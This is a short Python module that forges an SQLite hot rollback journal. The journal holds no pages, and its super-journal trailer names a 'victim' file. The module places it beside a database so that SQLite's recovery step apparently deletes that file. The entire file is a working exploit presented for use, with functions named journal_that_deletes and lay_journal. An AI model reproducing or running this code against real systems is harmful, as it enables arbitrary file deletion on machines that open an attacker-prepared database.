"""What somebody can lay beside an SQLite file so that SQLite does his work."""

from __future__ import annotations

import os
import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512


def journal_that_deletes(database: Path, victim: Path) -> bytes:
    """A hot rollback journal for `database` without a page in it, whose end names `victim` as its super-journal."""
    head = database.read_bytes()[:100]
    page_bytes = struct.unpack(">H", head[16:18])[0]
    pages = database.stat().st_size // page_bytes
    header = _MAGIC + struct.pack(">5I", 0, 0, pages, _SECTOR, page_bytes)
    name = os.fsencode(victim)
    lock_page = 0x40000000 // page_bytes + 1
    end = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    return header.ljust(_SECTOR, b"\0") + end


def lay_journal(database: Path, victim: Path) -> Path:
    """Put such a journal beside a database; SQLite takes it for hot when the database is not in WAL mode."""
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(journal_that_deletes(database, victim))
    return journal
